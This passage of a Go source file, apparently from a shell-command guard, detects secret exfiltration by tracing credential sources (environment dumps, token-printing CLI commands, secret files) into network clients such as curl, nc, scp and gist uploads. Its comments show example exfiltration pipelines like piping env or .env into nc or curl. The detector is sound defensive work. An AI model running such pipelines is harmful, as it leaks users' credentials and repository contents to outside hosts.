package guard

import (
	"path"
	"regexp"
	"slices"
	"strings"
	"sync"

	"mvdan.cc/sh/v3/syntax"

	"github.com/swarm-guard/swarm-guard/guard/effect"
	"github.com/swarm-guard/swarm-guard/guard/internal/shell"
)

// Secret exfiltration: a secret source flowing into a network sink. This
// file recognises the sources and the sinks and writes no reason: each
// source is an effect.Source (its kind and detail), and the rule's judge
// writes the words.
//
// Sources are environment dumps (env, printenv, export -p, set, declare -x,
// /proc/*/environ), token printers (gh auth token, git credential fill,
// aws configure get, gcloud auth print-access-token, ...) and credential
// variables ($GITHUB_TOKEN). Their taint rides on words (arg.secret), on
// standard input (input.secret, through every pipeline stage after the
// source: base64, gzip and openssl enc hide nothing), and on files the
// command writes (bodies). Sinks are network clients' data, upload, header
// and URL arguments, programs that send their standard input (nc, ssh),
// DNS lookups and gists. Network use without a secret stays allowed, and
// so does dumping the environment to the terminal (env | grep PATH).
//
// The sink describes what it sends as an effect.Send; the rule's judge
// (guard/rules/secret_exfiltration.go) decides, with the hosts each
// credential variable belongs to and [network] allow_hosts.

// credentialName matches variable names that hold credentials.
var credentialName = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`(?i)(TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIALS?|AUTH)`)
})

// varSecret is the taint of expanding $name: what its value was assigned
// from, or the variable itself when it is a credential variable from the
// environment.
func (a *analyzer) varSecret(name string, st *shell.State) *effect.Source {
	for _, v := range st.Vars[name] {
		if v.Secret != nil {
			return v.Secret
		}
	}
	if _, assigned := st.Vars[name]; !assigned && (credentialName().MatchString(name) || a.env.Secrets[name] != "") {
		return &effect.Source{Kind: effect.CredentialVariable, Name: name}
	}
	return nil
}

// secretSource says which secret source runs in stmts (a substitution or
// a pipeline stage), or none.
func (a *analyzer) secretSource(stmts []*syntax.Stmt, st *shell.State) *effect.Source {
	var found *effect.Source
	for _, s := range stmts {
		syntax.Walk(s, func(n syntax.Node) bool {
			if found != nil {
				return false
			}
			switch x := n.(type) {
			case *syntax.CallExpr:
				// Literal words only: a syntactic look, which cannot
				// recurse into the substitutions it walks anyway.
				var words []string
				for _, w := range x.Args {
					if lit := shell.WordLiteral(w); lit != "" {
						words = append(words, lit)
					} else {
						words = append(words, "\x00")
					}
				}
				found = secretCall(words)
				if found == nil {
					found = interpreterEnvDump(words)
				}
				if found == nil && len(words) > 0 && (words[0] == "echo" || words[0] == "printf") {
					found = a.x.PrintedSecret(x.Args[1:], st)
				}
			case *syntax.DeclClause:
				if v := x.Variant.Value; v == "export" || v == "declare" || v == "typeset" {
					names, print := 0, len(x.Args) == 0
					for _, as := range x.Args {
						if as.Naked && as.Name == nil && as.Value != nil {
							if w := shell.WordLiteral(as.Value); strings.HasPrefix(w, "-") && strings.ContainsAny(w, "px") {
								print = true
							}
							continue
						}
						names++
					}
					if print && names == 0 {
						found = &effect.Source{Kind: effect.EnvironmentDump, Via: v}
					}
				}
			case *syntax.Redirect:
				lit := shell.WordLiteral(x.Word)
				if src := environSource(lit); src != nil {
					found = src
				} else if x.Op == syntax.RdrIn && lit != "" {
					found = a.fileSecret(shell.Word{Text: lit, Src: lit}, st) // curl -d @- URL < .env
				}
			}
			return found == nil
		})
	}
	return found
}

// secretCall recognises a simple command that prints secrets.
func secretCall(words []string) *effect.Source {
	if len(words) == 0 {
		return nil
	}
	name := path.Base(words[0])
	args := words[1:]
	operands := func() []string {
		var out []string
		for _, w := range args {
			if !strings.HasPrefix(w, "-") {
				out = append(out, w)
			}
		}
		return out
	}
	for _, w := range args {
		if src := environSource(w); src != nil {
			return src
		}
	}
	if (strings.HasPrefix(name, "git-credential-") || strings.HasPrefix(name, "docker-credential-")) && hasWord(args, "get") {
		return credentialCommand(name + " get") // a credential helper run by hand prints the secret it stores
	}
	switch name {
	case "env":
		for _, w := range operands() {
			if !strings.Contains(w, "=") {
				return nil // env runs a command
			}
		}
		return &effect.Source{Kind: effect.EnvironmentDump, Via: name}
	case "printenv":
		ops := operands()
		if len(ops) == 0 {
			return &effect.Source{Kind: effect.EnvironmentDump, Via: name}
		}
		for _, o := range ops {
			if credentialName().MatchString(o) {
				return &effect.Source{Kind: effect.CredentialVariable, Name: o}
			}
		}
	case "set":
		if len(args) == 0 {
			return &effect.Source{Kind: effect.EnvironmentDump, Via: name}
		}
	case "export", "declare", "typeset":
		if len(operands()) == 0 {
			for _, w := range args {
				if strings.ContainsAny(w, "px") {
					return &effect.Source{Kind: effect.EnvironmentDump, Via: name}
				}
			}
			if len(args) == 0 && name == "export" {
				return &effect.Source{Kind: effect.EnvironmentDump, Via: name}
			}
		}
	case "gh":
		if len(args) >= 2 && args[0] == "auth" && (args[1] == "token" || args[1] == "status" && hasWord(args, "-t", "--show-token")) {
			return credentialCommand("gh auth token")
		}
	case "git":
		sub, rest := gitSubcommand(args)
		switch sub {
		case "credential", "credential-store", "credential-cache", "credential-manager", "credential-manager-core",
			"credential-osxkeychain", "credential-libsecret", "credential-wincred", "credential-oauth":
			if hasWord(rest, "fill", "get") {
				return credentialCommand("git " + sub + " " + map[bool]string{true: "fill", false: "get"}[hasWord(rest, "fill")])
			}
		case "bundle":
			// git bundle create - --all writes every commit to stdout.
			if len(rest) >= 2 && rest[0] == "create" && rest[1] == "-" {
				return &effect.Source{Kind: effect.RepositoryBundle}
			}
		case "archive":
			if !hasWord(rest, "-o") && !slices.ContainsFunc(rest, func(w string) bool { return strings.HasPrefix(w, "--output") }) {
				return &effect.Source{Kind: effect.RepositoryArchive}
			}
		case "format-patch":
			if hasWord(rest, "--stdout") {
				return &effect.Source{Kind: effect.RepositoryPatches}
			}
		case "config":
			if hasWord(rest, "--list", "-l") {
				return credentialCommand("git config --list")
			}
			for _, w := range rest {
				// http.extraheader holds the CI's token (actions/checkout
				// writes "AUTHORIZATION: basic ..." there).
				if lw := strings.ToLower(w); credentialName().MatchString(w) || strings.Contains(lw, "credential") || strings.HasSuffix(lw, ".extraheader") {
					return credentialCommand("git config " + w)
				}
			}
		}
	case "aws":
		if len(args) >= 2 && (args[0] == "configure" && (args[1] == "get" || args[1] == "export-credentials") ||
			args[0] == "sts" && (args[1] == "get-session-token" || args[1] == "assume-role") ||
			args[0] == "ecr" && (args[1] == "get-login-password" || args[1] == "get-authorization-token") ||
			args[0] == "sso" && args[1] == "get-role-credentials" ||
			args[0] == "codeartifact" && args[1] == "get-authorization-token") {
			return credentialCommand("aws " + args[0] + " " + args[1])
		}
	case "kubectl", "oc":
		// kubectl config view prints credentials only with --raw or
		// --flatten (redacted otherwise).
		if len(args) >= 2 && args[0] == "config" && args[1] == "view" && hasWord(args, "--raw", "--flatten") {
			return credentialCommand(name + " config view --raw")
		}
	case "npm", "pnpm", "yarn":
		if len(args) >= 3 && args[0] == "config" && args[1] == "get" {
			for _, k := range args[2:] {
				if lk := strings.ToLower(k); strings.Contains(lk, "_auth") || strings.Contains(lk, "token") || strings.Contains(lk, "password") {
					return credentialCommand(name + " config get " + k)
				}
			}
		}
	case "gcloud":
		for _, w := range args {
			if w == "print-access-token" || w == "print-identity-token" {
				return credentialCommand("gcloud auth " + w)
			}
		}
	case "az":
		if hasWord(args, "get-access-token") {
			return credentialCommand("az account get-access-token")
		}
	case "heroku":
		if hasWord(args, "auth:token") {
			return credentialCommand("heroku auth:token")
		}
	case "security":
		if hasWord(args, "find-generic-password", "find-internet-password") && hasWord(args, "-w", "-g") {
			return credentialCommand("security find-generic-password")
		}
	case "op":
		if hasWord(args, "read") || len(args) >= 2 && args[0] == "item" && args[1] == "get" {
			return credentialCommand("op read")
		}
	case "vault":
		if hasWord(args, "read") || len(args) >= 2 && args[0] == "kv" && args[1] == "get" {
			return credentialCommand("vault read")
		}
	}
	return nil
}

// credentialCommand is the source of a command that prints a stored
// credential, named as the command is recognised.
func credentialCommand(cmd string) *effect.Source {
	return &effect.Source{Kind: effect.CredentialCommand, Name: cmd}
}

func hasWord(words []string, any ...string) bool {
	for _, w := range words {
		for _, x := range any {
			if w == x {
				return true
			}
		}
	}
	return false
}

// gitSubcommand skips git's global options.
func gitSubcommand(args []string) (string, []string) {
	for i := 0; i < len(args); i++ {
		switch w := args[i]; {
		case w == "-C" || w == "-c" || w == "--git-dir" || w == "--work-tree" || w == "--namespace":
			i++ // the option's value
		case strings.HasPrefix(w, "-"):
		default:
			return w, args[i+1:]
		}
	}
	return "", nil
}

// environSource is the secret source a file is, or none:
// the environment a /proc/<pid>/environ path holds, another process's
// (read outright is already secret-file's) or the shell's own
// (/proc/self/environ), which is what env prints: fine on the terminal, a
// secret when sent; and a container's secret file under /run/secrets.
func environSource(p string) *effect.Source {
	if isEnvironFile(p) {
		return &effect.Source{Kind: effect.ProcessEnvironment, Name: p}
	}
	// The secrets a container is given as files (docker build's RUN
	// --mount=type=secret, compose and swarm secrets, Kubernetes
	// projections by convention) are read from /run/secrets.
	if name, ok := strings.CutPrefix(path.Clean(p), "/run/secrets/"); ok && name != "" && !strings.ContainsAny(name, "*?[") {
		return &effect.Source{Kind: effect.SecretFile, Name: path.Clean(p)}
	}
	rest, ok := strings.CutPrefix(path.Clean(p), "/proc/")
	if !ok {
		return nil
	}
	if pid, file, ok := strings.Cut(rest, "/"); ok && file == "environ" && (pid == "self" || pid == "thread-self") {
		return &effect.Source{Kind: effect.EnvironmentDump, Via: p}
	}
	return nil
}

// isEnvironFile reports whether p is another process's environment:
// /proc/<pid>/environ other than the shell's own (/proc/self).
func isEnvironFile(p string) bool {
	rest, ok := strings.CutPrefix(path.Clean(p), "/proc/")
	if !ok {
		return false
	}
	pid, file, ok := strings.Cut(rest, "/")
	return ok && file == "environ" && pid != "self" && pid != "thread-self"
}

// stageSecret is the taint of what a pipeline stage prints: the secrets
// it reads itself, or those on its standard input, which every filter
// (base64, gzip, openssl, sed) passes on in some form.
func (a *analyzer) stageSecret(s *syntax.Stmt, st *shell.State) *effect.Source {
	if s == nil {
		return nil
	}
	if src := a.secretSource([]*syntax.Stmt{s}, st); src != nil {
		return src
	}
	// A file the command filled with secrets earlier, read by name:
	// env > f; xxd f | nc host 80; or a secret file a reader prints:
	// cat .env | curl -d @- URL.
	// Only literal names are looked at: expanding every argument of every
	// stage again would repeat the work of nested substitutions.
	if ce, ok := s.Cmd.(*syntax.CallExpr); ok && len(ce.Args) > 1 && (len(a.bodies) > 0 || secretReaders[path.Base(shell.WordLiteral(ce.Args[0]))]) {
		for _, w := range ce.Args[1:] {
			if v := shell.WordLiteral(w); v != "" {
				if sec := a.fileSecret(shell.Word{Text: v}, st); sec != nil {
					return sec
				}
			}
		}
	}
	// An archive of the worktree or .git written to stdout: tar czf - . | curl -T - URL.
	if ce, ok := s.Cmd.(*syntax.CallExpr); ok && len(ce.Args) > 1 && isArchiver(path.Base(shell.WordLiteral(ce.Args[0]))) {
		for _, w := range ce.Args[1:] {
			if v := shell.WordLiteral(w); v != "" && !strings.HasPrefix(v, "-") {
				if sec := a.repositoryCopy(shell.Word{Text: v}, st); sec != nil {
					return sec
				}
			}
		}
	}
	if a.x.StdinSecret == nil {
		return nil
	}
	if ce, ok := s.Cmd.(*syntax.CallExpr); ok && len(ce.Args) > 0 {
		if name, ok := a.x.StaticWord(ce.Args[0], st); ok {
			switch path.Base(name) {
			case "wc", "true", "false", ":", "sleep":
				return nil
			}
		}
	}
	return a.x.StdinSecret
}

// secretReaders print the files they are given (or a form of them), so a
// secret file among their arguments is on their standard output.
var secretReaders = map[string]bool{
	"cat": true, "head": true, "tail": true, "tac": true, "less": true, "more": true, "base64": true, "base32": true,
	"xxd": true, "od": true, "hexdump": true, "gzip": true, "bzip2": true, "xz": true, "zstd": true, "sed": true,
	"awk": true, "grep": true, "tr": true, "cut": true, "sort": true, "uniq": true, "jq": true, "yq": true,
	"strings": true, "openssl": true, "gpg": true, "nl": true, "paste": true, "column": true, "envsubst": true,
	"dotenv": true,
}

// isArchiver reports whether a program packs whole directories.
func isArchiver(name string) bool {
	switch name {
	case "tar", "bsdtar", "zip", "7z", "7za", "cpio":
		return true
	}
	return false
}

// repositoryCopy names the repository when a copy's local operand is the
// worktree's top level or its git dir: scp -r . host: sends every commit
// in .git. A part of the worktree (scp -r src host:) is not the history.
func (a *analyzer) repositoryCopy(x shell.Word, st *shell.State) *effect.Source {
	if !x.Static() || remoteSpecHost(x) != "" || a.env == nil || a.env.Root == "" {
		return nil
	}
	for _, p := range a.resolveArg(x, st).paths {
		p = strings.TrimSuffix(p, "/")
		switch {
		case p == a.env.Root:
			return &effect.Source{Kind: effect.RepositoryCopy, Name: x.Text}
		case p == a.env.Root+"/.git" || a.env.CommonDir != "" && p == a.env.CommonDir:
			return &effect.Source{Kind: effect.GitDirCopy, Name: x.Text}
		}
	}
	return nil
}

// fileSecret is the taint of a file the command wrote earlier.
func (a *analyzer) fileSecret(x shell.Word, st *shell.State) *effect.Source {
	if !x.Static() {
		return nil
	}
	for _, p := range a.resolveArg(x, st).paths {
		if src := environSource(p); src != nil {
			return src
		}
		if a.isSecret(p) {
			// A secret file is a secret source whatever [rules]
			// secret-file says: reading it may be allowed, sending it
			// off the machine is exfiltration.
			return &effect.Source{Kind: effect.SecretFile, Name: p}
		}
		for _, b := range a.bodies[p] {
			if b.Secret != nil {
				return b.Secret
			}
		}
	}
	return nil
}

// exfilSink judges a network client: does a secret leave with it, and
// does it go to a host the policy allows?
func (a *analyzer) exfilSink(inv *shell.Invocation) {
	args := inv.Args()
	var stdin *effect.Source
	if inv.Stdin != nil {
		stdin = inv.Stdin.Secret
	}
	var hosts []string
	var sent []*effect.Source // secrets this call sends
	var inURL []effect.Secret // secrets written into its URLs (webtools.go)
	send := func(s *effect.Source) {
		if s != nil {
			sent = append(sent, s)
		}
	}
	fileArg := func(x shell.Word, v string) {
		// curl -d @file, -T file, -F name=@file: "-" is standard input.
		if v == "-" || v == "@-" || strings.HasSuffix(v, "=@-") || strings.HasSuffix(v, "=<-") {
			send(stdin)
			return
		}
		if i := strings.IndexAny(v, "@<"); i >= 0 {
			v = v[i+1:]
		}
		send(a.fileSecret(shell.Word{Text: v, Src: v}, inv.State))
	}
	switch inv.Name {
	case "curl", "wget", "http", "https", "xh", "xhs":
		inURL = append(inURL, a.loginPassword(inv.Name, args)...)
		data := map[string]bool{"-d": true, "--data": true, "--data-ascii": true, "--data-binary": true, "--data-raw": true,
			"--data-urlencode": true, "--json": true, "-F": true, "--form": true, "--form-string": true, "-T": true,
			"--upload-file": true, "-H": true, "--header": true, "-u": true, "--user": true, "-b": true, "--cookie": true,
			"--post-data": true, "--post-file": true, "--body-data": true, "--body-file": true, "--url": true, "-e": true, "--referer": true}
		for i := 0; i < len(args); i++ {
			x := args[i]
			send(x.Secret)
			flag, val, eq := strings.Cut(x.Text, "=")
			if data[x.Text] && i+1 < len(args) {
				i++
				send(args[i].Secret)
				fileArg(args[i], args[i].Text)
				if x.Text == "--url" {
					hosts = append(hosts, urlHost(args[i].Text))
					inURL = append(inURL, urlSecret(args[i])...)
					a.sentURL(inv.Name, args[i])
				}
				continue
			}
			if eq && data[flag] && strings.HasPrefix(flag, "--") {
				fileArg(x, val)
				if flag == "--url" {
					hosts = append(hosts, urlHost(val))
					v := x
					v.Text = val
					inURL = append(inURL, urlSecret(v)...)
					a.sentURL(inv.Name, v)
				}
				continue
			}
			if strings.HasPrefix(x.Text, "-d") && len(x.Text) > 2 && inv.Name == "curl" {
				fileArg(x, x.Text[2:])
				continue
			}
			if h := urlHost(x.Text); h != "" {
				hosts = append(hosts, h)
				inURL = append(inURL, urlSecret(x)...)
				a.sentURL(inv.Name, x)
			}
			if inv.Name != "curl" && inv.Name != "wget" && strings.ContainsAny(x.Text, "=:@") {
				fileArg(x, x.Text) // httpie items: field=value, field=@file
			}
		}
		if inv.Name != "curl" && inv.Name != "wget" {
			send(stdin) // httpie sends standard input as the body
		}
	case "nc", "ncat", "netcat", "socat", "telnet", "ssh", "ftp":
		send(stdin)
		for _, x := range args {
			send(x.Secret)
		}
		hosts = connectHosts(inv.Name, args)
	case "scp", "sftp", "rsync":
		// The last operand of scp and rsync is where the copy goes: a
		// local one receives (scp host:report.txt . is a download) and
		// sends none of its contents.
		dest := -1
		if inv.Name != "sftp" && len(args) > 1 && args[len(args)-1].Static() && !strings.HasPrefix(args[len(args)-1].Text, "-") && !strings.HasPrefix(args[len(args)-2].Text, "-") {
			dest = len(args) - 1
		}
		for i, x := range args {
			send(x.Secret)
			if i != dest {
				send(a.fileSecret(x, inv.State))
			}
			if h := remoteSpecHost(x); h != "" {
				hosts = append(hosts, h)
			}
		}
		if len(hosts) > 0 { // rsync -a ./ /tmp/snapshot/ stays on this machine
			for i, x := range args {
				if i != dest {
					send(a.repositoryCopy(x, inv.State))
				}
			}
		}
	case "dig", "nslookup", "host", "drill", "ping":
		for _, x := range args {
			send(x.Secret)
		}
	case "gh":
		if len(args) >= 2 && args[0].Text == "gist" && (args[1].Text == "create" || args[1].Text == "edit") {
			files := 0
			p := shell.ParseOpts(args[2:], shell.Spec{Short: "dfa", Long: shell.Longs("desc", "filename", "add")})
			for _, x := range p.Operands {
				send(x.Secret)
				if x.Text == "-" {
					send(stdin)
				} else {
					files++
					send(a.fileSecret(x, inv.State))
					a.readOperand(inv, x) // gh gist create .env
				}
			}
			for _, v := range p.Values("d", "desc", "f", "filename") {
				send(v.Secret)
			}
			for _, v := range p.Values("a", "add") { // gh gist edit ID --add file
				files++
				send(v.Secret)
				send(a.fileSecret(v, inv.State))
				a.readOperand(inv, v)
			}
			if files == 0 {
				send(stdin) // gh gist create without files reads standard input
			}
		}
		if len(args) >= 2 && (args[0].Text == "issue" || args[0].Text == "pr" || args[0].Text == "release") &&
			(args[1].Text == "create" || args[1].Text == "comment" || args[1].Text == "edit" || args[1].Text == "review") {
			// Titles, bodies and comments are text on the forge, often public.
			a.bodyFlags(args[2:], inv.State, send, stdin, "F", "body-file", "notes-file")
		}
	case "openssl":
		if len(args) > 0 && args[0].Text == "s_client" {
			send(stdin)                  // env | openssl s_client -connect host:443
			for i, x := range args[1:] { // openssl's long options take one dash: -connect host:port
				if (x.Text == "-connect" || x.Text == "--connect") && i+2 < len(args) && args[i+2].Static() {
					h, _, _ := strings.Cut(args[i+2].Text, ":")
					hosts = append(hosts, h)
				}
			}
		}
	case "mail", "mailx", "s-nail", "sendmail", "mutt", "msmtp":
		send(stdin) // the message body
		for _, x := range args {
			send(x.Secret)
			send(a.fileSecret(x, inv.State)) // mutt -a FILE, mail -A FILE
		}
	case "aws", "gsutil", "gcloud", "rclone":
		// Uploads to cloud storage: aws s3 cp SRC s3://..., gsutil cp,
		// gcloud storage cp, rclone copy/rcat; "-" is standard input.
		if src, ok := storageUpload(inv.Name, args); ok {
			if src.Static() && src.Text == "-" || inv.Name == "rclone" && len(args) > 0 && args[0].Text == "rcat" {
				send(stdin)
			} else {
				send(src.Secret)
				send(a.fileSecret(src, inv.State))
				send(a.repositoryCopy(src, inv.State))
			}
		}
	case "docker", "podman":
		// docker login [-u U] -p PASSWORD [REGISTRY], --password-stdin.
		if len(args) > 0 && args[0].Text == "login" {
			p := shell.ParseOpts(args[1:], shell.Spec{Short: "up", Long: shell.Longs("username", "password")})
			for _, v := range p.Values("p", "password", "u", "username") {
				send(v.Secret)
			}
			if p.Has("password-stdin") {
				send(stdin)
			}
			host := "docker.io"
			if len(p.Operands) > 0 && p.Operands[0].Static() {
				host, _, _ = strings.Cut(p.Operands[0].Text, "/")
			}
			hosts = append(hosts, strings.ToLower(host))
		}
	}
	e := sendEffect(inv.Name, hosts, sent)
	e.Secrets = append(e.Secrets, inURL...)
	if len(e.Secrets) == 0 && len(e.Hosts) == 0 {
		return // nothing leaves and no host is named: gh pr view, docker ps, aws s3 ls
	}
	a.judge(inv, e)
}

// loginPassword is the password a web client is given literally on its
// command line, judged as a password in a URL's user-info
// (userinfoSecret): curl -u user:password (--user, -uuser:password, -su user:password),
// wget --password=pw (--http-password, --ftp-password, and the same
// separated), httpie's and xh's -a/--auth user:pw. A user without a
// password (curl -u "$USER", prompted), an empty or placeholder one
// (user:, user:<token>) and a request only to this machine carry none; a
// password from a variable is that variable's taint, judged already.
func (a *analyzer) loginPassword(prog string, args []shell.Word) []effect.Secret {
	var found []effect.Secret
	add := func(opt string, v shell.Word, pair bool) {
		if !v.Static() {
			return
		}
		user, pass := "", v.Text
		if pair {
			var ok bool
			if user, pass, ok = strings.Cut(v.Text, ":"); !ok {
				return // curl -u user: the password is prompted for
			}
		}
		if placeholderValue(pass) {
			return
		}
		if pair {
			found = append(found, effect.Secret{Source: effect.Source{Kind: effect.LoginOption, Name: user, Via: opt}})
		} else {
			found = append(found, effect.Secret{Source: effect.Source{Kind: effect.PasswordOption, Via: opt}})
		}
	}
	// The login options: their names, and whether the value is user:pw
	// (pair) or the password alone.
	long, pair, short := func(n string) bool { return n == "auth" }, true, byte('a') // httpie, xh
	switch prog {
	case "curl":
		long, short = func(n string) bool { return n == "user" }, 'u'
	case "wget":
		long, pair, short = wgetPasswordOpt, false, 0
	}
	for i := 0; i < len(args); i++ {
		x := args[i]
		if !x.Static() {
			continue
		}
		if x.Text == "--" {
			break
		}
		if name, ok := strings.CutPrefix(x.Text, "--"); ok {
			n, v, eq := strings.Cut(name, "=")
			switch {
			case !long(n):
			case eq:
				add("--"+n, shell.Word{Text: v, Src: v}, pair)
			case i+1 < len(args):
				i++
				add("--"+n, args[i], pair)
			}
			continue
		}
		if short == 0 || len(x.Text) < 2 || x.Text[0] != '-' {
			continue
		}
		// A group of short options: -u value, -uvalue, -su value. curl's
		// other options that take a value end the group (-dvalue).
		for j := 1; j < len(x.Text); j++ {
			c := x.Text[j]
			if c == short {
				if j+1 < len(x.Text) {
					add("-"+string(c), shell.Word{Text: x.Text[j+1:], Src: x.Text[j+1:]}, true)
				} else if i+1 < len(args) {
					i++
					add("-"+string(c), args[i], true)
				}
				break
			}
			if strings.IndexByte(shortValueOpts[prog], c) >= 0 {
				if j+1 == len(x.Text) {
					i++ // its value is the next word
				}
				break
			}
		}
	}
	if len(found) == 0 {
		return nil
	}
	// A call whose URLs are all on this machine keeps the password here
	// (curl -u admin:password http://localhost:8080), and one to a device
	// on the local network gives it to that device, the one it logs in to
	// (curl -u admin:pwd http://192.168.1.1/status).
	var away []string
	named := false
	for _, x := range args {
		if h := urlHost(x.Text); x.Static() && h != "" {
			named = true
			if !Loopback(h) && !LocalNetwork(h) && !slices.Contains(away, h) {
				away = append(away, h)
			}
		}
	}
	if named && len(away) == 0 {
		return nil
	}
	if len(away) > 0 {
		for i := range found {
			found[i].For = away
		}
	}
	return found
}

// wgetPasswordOpt reports whether a wget long option takes a password.
func wgetPasswordOpt(n string) bool {
	switch n {
	case "password", "http-password", "http-passwd", "ftp-password", "ftp-passwd", "proxy-password", "proxy-passwd":
		return true
	}
	return false
}

// shortValueOpts are the short options of the web clients whose value
// may be the next word, other than the login ones.
var shortValueOpts = map[string]string{
	"curl": "dFHTebcoxXAKCErmwyYztQPDU",
	"wget": "OoaitTwQPAReUBdlYe",
	"http": "Aops", "https": "Aops", "xh": "Aops", "xhs": "Aops",
}

// urlSecret is the secret a literal URL argument carries in its
// user-info, judged as for WebFetch's URL (userinfoSecret).
func urlSecret(x shell.Word) []effect.Secret {
	if !x.Static() || !strings.Contains(x.Text, "@") {
		return nil
	}
	if w, ok := parseWebURL(x.Text); ok {
		if s, ok := w.userinfoSecret(); ok {
			return []effect.Secret{s}
		}
	}
	return nil
}

// sendEffect is what a network client sends: secrets are the taints of
// its data.
func sendEffect(by string, hosts []string, sent []*effect.Source) effect.Send {
	e := effect.Send{By: by, Hosts: hosts}
	if len(sent) > 0 {
		e.Secrets = make([]effect.Secret, len(sent))
		for i, s := range sent {
			e.Secrets[i] = effect.Secret{Source: *s}
		}
	}
	return e
}

// bodyFlags sends the secrets of a forge CLI's text arguments (titles,
// bodies, comments) and of the files its file flags name ("-" is standard
// input).
func (a *analyzer) bodyFlags(args []shell.Word, st *shell.State, send func(*effect.Source), stdin *effect.Source, fileFlags ...string) {
	for i := 0; i < len(args); i++ {
		x := args[i]
		send(x.Secret)
		name, val, eq := strings.Cut(strings.TrimLeft(x.Text, "-"), "=")
		if !strings.HasPrefix(x.Text, "-") || !slices.Contains(fileFlags, name) {
			continue
		}
		v := shell.Word{Text: val}
		if !eq {
			if i+1 >= len(args) {
				break
			}
			i++
			v = args[i]
		}
		if v.Static() && v.Text == "-" {
			send(stdin)
		} else {
			send(a.fileSecret(v, st))
		}
	}
}

// storageUpload is the local source of an upload to cloud storage: aws s3
// cp/mv/sync SRC s3://..., gsutil cp SRC gs://..., gcloud storage cp SRC
// gs://..., rclone copy/copyto/move/sync/rcat SRC REMOTE:path. ok is
// false for anything else (a download, a listing).
func storageUpload(prog string, args []shell.Word) (src shell.Word, ok bool) {
	var ops []shell.Word
	for _, x := range args {
		if !strings.HasPrefix(x.Text, "-") || x.Text == "-" {
			ops = append(ops, x)
		}
	}
	remote := func(x shell.Word) bool {
		return strings.HasPrefix(x.Text, "s3://") || strings.HasPrefix(x.Text, "gs://") || strings.Contains(x.Text, ":") && !strings.HasPrefix(x.Text, "/")
	}
	pick := func(skip int) (shell.Word, bool) {
		if len(ops) >= skip+2 && remote(ops[len(ops)-1]) && !remote(ops[skip]) {
			return ops[skip], true
		}
		return shell.Word{}, false
	}
	switch prog {
	case "aws":
		if len(ops) >= 2 && ops[0].Text == "s3" && (ops[1].Text == "cp" || ops[1].Text == "mv" || ops[1].Text == "sync") {
			return pick(2)
		}
	case "gsutil":
		if len(ops) >= 1 && (ops[0].Text == "cp" || ops[0].Text == "mv" || ops[0].Text == "rsync") {
			return pick(1)
		}
	case "gcloud":
		if len(ops) >= 2 && ops[0].Text == "storage" && (ops[1].Text == "cp" || ops[1].Text == "mv" || ops[1].Text == "rsync") {
			return pick(2)
		}
	case "rclone":
		if len(ops) >= 1 {
			switch ops[0].Text {
			case "rcat":
				return shell.Word{Text: "-"}, len(ops) >= 2
			case "copy", "copyto", "move", "moveto", "sync":
				return pick(1)
			}
		}
	}
	return shell.Word{}, false
}

// connectHosts is the host a connecting client names: nc/ncat/telnet/ftp
// HOST [PORT], ssh [USER@]HOST; none for a listener (nc -l), socat's
// addresses or a host only known at run time.
func connectHosts(name string, args []shell.Word) []string {
	var p shell.Parsed
	switch name {
	case "ssh":
		p = shell.ParseOpts(args, shell.Spec{Short: "BbcDEeFIiJLlmOoPpQRSWw", Stop: true})
		if len(p.Rest) == 0 {
			return nil
		}
		return staticHost(p.Rest[0])
	case "nc", "ncat", "netcat":
		p = shell.ParseOpts(args, shell.Spec{Short: "eciIOpqsTVwxXgGmMbd", Long: shell.Longs("exec", "sh-exec", "lua-exec", "source", "source-port",
			"wait", "idle-timeout", "proxy", "proxy-type", "proxy-auth", "output", "hex-dump", "allow", "allowfile", "deny", "denyfile", "max-conns")})
		if p.Has("l", "listen") {
			return nil
		}
	case "telnet", "ftp":
		p = shell.ParseOpts(args, shell.Spec{Short: "bejlnS"})
	default:
		return nil
	}
	if len(p.Operands) == 0 {
		return nil
	}
	return staticHost(p.Operands[0])
}

// staticHost is the host of a [user@]host word, or none.
func staticHost(x shell.Word) []string {
	if !x.Static() {
		return nil
	}
	h := strings.TrimPrefix(x.Text, "ssh://")
	if i := strings.LastIndexByte(h, '@'); i >= 0 {
		h = h[i+1:]
	}
	h, _, _ = strings.Cut(h, "/")
	if strings.Count(h, ":") == 1 {
		h, _, _ = strings.Cut(h, ":") // host:port
	}
	if h == "" || strings.HasPrefix(h, "-") {
		return nil
	}
	return []string{strings.ToLower(h)}
}

// remoteSpecHost is the host of an scp/rsync operand ([user@]host:path,
// host::module, rsync://host/…), or "".
func remoteSpecHost(x shell.Word) string {
	if !x.Static() || !isRemoteSpec(x.Text) {
		return ""
	}
	if h := urlHost(x.Text); h != "" {
		return h
	}
	h, _, _ := strings.Cut(x.Text, ":")
	if i := strings.LastIndexByte(h, '@'); i >= 0 {
		h = h[i+1:]
	}
	return strings.ToLower(h)
}

// urlHost is the host of a URL argument ("https://x/y", "x.com/y" for
// curl), or "".
func urlHost(s string) string {
	if !strings.Contains(s, "://") {
		return ""
	}
	w, _ := parseWebURL(s) // the host also when the user-info is a placeholder net/url rejects
	return w.host
}

// packedSecret carries a secret file's taint to what an archiver or
// compressor makes of it: env > f; gzip f leaves the environment in f.gz,
// tar czf x.tgz f and zip x.zip f put it in the archive.
func (a *analyzer) packedSecret(inv *shell.Invocation) {
	if len(a.bodies) == 0 && !isArchiver(inv.Name) {
		return
	}
	args := inv.Args()
	secretIn := func(xs []shell.Word) *effect.Source {
		for _, x := range xs {
			if sec := a.fileSecret(x, inv.State); sec != nil {
				return sec
			}
			if isArchiver(inv.Name) {
				if sec := a.repositoryCopy(x, inv.State); sec != nil {
					return sec
				}
			}
		}
		return nil
	}
	carry := func(dest shell.Word, sec *effect.Source) {
		a.recordBody(inv, dest, &shell.Input{Secret: sec, Desc: "an archive of secrets", File: true})
	}
	switch inv.Name {
	case "tar", "bsdtar":
		var archive shell.Word
		var files []shell.Word
		for i := 0; i < len(args); i++ {
			x := args[i]
			switch {
			case strings.HasPrefix(x.Text, "--file="):
				archive = shell.Word{Text: x.Text[len("--file="):]}
			case x.Text == "--file" || x.Text == "-f":
				if i+1 < len(args) {
					archive = args[i+1]
					i++
				}
			case i == 0 && !strings.HasPrefix(x.Text, "-") || strings.HasPrefix(x.Text, "-") && !strings.HasPrefix(x.Text, "--"):
				// A cluster (czf, -czf): its f takes the next word.
				if strings.Contains(x.Text, "f") && i+1 < len(args) {
					archive = args[i+1]
					i++
				}
			case !strings.HasPrefix(x.Text, "-"):
				files = append(files, x)
			}
		}
